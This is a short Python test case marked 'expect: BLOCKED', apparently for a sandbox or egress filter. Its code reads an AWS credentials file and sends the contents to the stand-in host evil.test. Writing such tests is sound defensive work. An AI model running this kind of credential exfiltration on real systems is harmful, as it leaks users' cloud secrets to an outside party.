# expect: BLOCKED
import urllib.request
opener = urllib.request.build_opener(urllib.request.HTTPSHandler())
opener.open("https://evil.test", data=open("/home/u/.aws/credentials", "rb").read())
